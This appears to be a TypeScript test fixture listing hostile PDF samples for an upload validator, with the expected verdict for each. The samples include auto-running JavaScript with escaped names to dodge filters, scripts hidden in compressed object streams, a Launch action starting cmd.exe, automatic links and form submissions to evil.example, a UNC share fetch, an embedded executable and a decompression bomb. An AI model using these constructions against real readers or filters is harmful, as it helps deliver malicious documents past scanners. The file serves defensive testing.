import { deflateSync } from 'node:zlib'
import { HTML, MARKER, packedObjects, pdf, pdfStream, SCRIPT, zip } from './fileBytes.ts'
import type { HostileFile } from './hostileFile.types.ts'

const ACTION = `<< /S /JavaScript /JS (app.alert('${MARKER}')) >>`

function refused(what: string, outcome: string, make: () => Buffer): HostileFile {
  return { what: `PDF ${what}`, name: 'a.pdf', make, outcome }
}

function kept(what: string, name: string, make: () => Buffer): HostileFile {
  return {
    what: `PDF ${what}`,
    name,
    make,
    outcome: { mediaType: 'application/pdf', name: 'a.pdf', isAsItWas: true },
  }
}

export const HOSTILE_DOCUMENTS: HostileFile[] = [
  refused('with JavaScript', 'upload_active', () => pdf({ root: `/OpenAction ${ACTION}` })),
  refused('with JavaScript spelt otherwise', 'upload_active', () =>
    pdf({ root: `/Open#41ction << /S /J#61v#61Script /#4aS (${SCRIPT}) >>` }),
  ),
  refused('with JavaScript among packed objects', 'upload_active', () =>
    pdf({ objects: [packedObjects(5, [ACTION])] }),
  ),
  refused('with JavaScript spelt otherwise among packed objects', 'upload_active', () =>
    pdf({ objects: [packedObjects(5, [`<< /S /#4aavaScript /#4a#53 (${SCRIPT}) >>`])] }),
  ),
  refused('with JavaScript in a packed stream that says nothing of itself', 'upload_active', () =>
    pdf({ objects: [pdfStream(5, '/Filter /FlateDecode', deflateSync(Buffer.from(`20 0 21 9 ${ACTION}`)))] }),
  ),
  refused('with an object inside of a stream', 'upload_active', () =>
    pdf({ objects: [pdfStream(5, '', `9 0 obj << /JS (${SCRIPT}) >> endobj`)] }),
  ),
  refused('with packed objects that are packed twice', 'upload_active', () =>
    pdf({ objects: [packedObjects(5, ['<< >>'], '/Filter [/ASCII85Decode /FlateDecode]')] }),
  ),
  refused('with packed objects that cannot be unpacked', 'upload_broken', () =>
    pdf({ objects: [pdfStream(5, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', 'not packed')] }),
  ),
  refused('with objects packed in an old way', 'upload_active', () =>
    pdf({ objects: [pdfStream(5, '/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', '\x80\x0b')] }),
  ),
  refused('that unpacks to two hundred megabytes', 'upload_broken', () =>
    pdf({ objects: [pdfStream(5, '/Filter /FlateDecode', deflateSync(Buffer.alloc(200 * 1024 ** 2)))] }),
  ),
  refused('that starts a program', 'upload_active', () =>
    pdf({ root: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
  ),
  refused('that opens a site by itself', 'upload_active', () =>
    pdf({ root: '/OpenAction << /S /URI /URI (https://evil.example/) >>' }),
  ),
  refused('that opens a site by itself, by way of another object', 'upload_active', () =>
    pdf({
      root: '/OpenAction 5 0 R',
      objects: ['5 0 obj\n<< /S /URI /URI (https://evil.example/) >>\nendobj\n'],
    }),
  ),
  refused('that opens a site by itself, by way of a packed object', 'upload_active', () =>
    pdf({
      root: '/OpenAction 21 0 R',
      objects: [packedObjects(5, ['[3 0 R /Fit]', '<< /S /URI /URI (https://evil.example/) >>'])],
    }),
  ),
  refused('that acts when a page is shown', 'upload_active', () =>
    pdf({ root: '/AA << /WC << /S /URI /URI (https://evil.example/) >> >>' }),
  ),
  refused('with another file inside', 'upload_active', () =>
    pdf({
      root: '/Names << /EmbeddedFiles 5 0 R >>',
      objects: [pdfStream(6, '/Type /EmbeddedFile', 'MZ')],
    }),
  ),
  refused('with a film', 'upload_active', () =>
    pdf({ objects: ['5 0 obj\n<< /Type /Annot /Subtype /RichMedia >>\nendobj\n'] }),
  ),
  refused('with a form that is a program', 'upload_active', () =>
    pdf({ root: '/AcroForm << /XFA 5 0 R >>', objects: [pdfStream(5, '', '<xdp:xdp/>')] }),
  ),
  refused('with a form that sends itself', 'upload_active', () =>
    pdf({ objects: ['5 0 obj\n<< /S /SubmitForm /F (https://evil.example/) >>\nendobj\n'] }),
  ),
  refused('that opens another file', 'upload_active', () =>
    pdf({ objects: ['5 0 obj\n<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>\nendobj\n'] }),
  ),
  refused('that is a page too', 'upload_active', () =>
    pdf({ objects: [`% ${HTML.replaceAll('\n', ' ')}\n`] }),
  ),
  refused('that is a page too, in a stream', 'upload_active', () =>
    pdf({ objects: [pdfStream(5, '', HTML)] }),
  ),
  refused('with a password', 'upload_locked', () => pdf({ trailer: '/Encrypt 5 0 R' })),
  refused('with a password, spelt otherwise', 'upload_locked', () => pdf({ trailer: '/Encr#79pt 5 0 R' })),
  refused('with a ZIP behind its end', 'upload_broken', () =>
    pdf({ after: zip('a.html', Buffer.from(HTML)) }),
  ),
  refused('without an end', 'upload_broken', () => pdf().subarray(0, -30)),
  refused('that only begins', 'upload_broken', () => Buffer.from(`%PDF-1.4\n${HTML}`)),
  refused('behind something else', 'upload_type_unknown', () =>
    Buffer.concat([Buffer.from('hello\n'), pdf()]),
  ),
  kept('that is sound', 'a.exe', () => pdf()),
  kept('that opens at a page of its own', 'a.pdf', () =>
    pdf({ root: '/OpenAction [3 0 R /Fit]', objects: [packedObjects(5, ['<< /Title (x) >>'])] }),
  ),
  kept('that opens at a page by way of a packed object', 'a.pdf', () =>
    pdf({ root: '/OpenAction 20 0 R', objects: [packedObjects(5, ['<< /S /GoTo /D [3 0 R /Fit] >>'])] }),
  ),
  kept('with a link that somebody may click', 'a.pdf', () =>
    pdf({ objects: ['5 0 obj\n<< /S /URI /URI (https://bank.example/) >>\nendobj\n'] }),
  ),
]
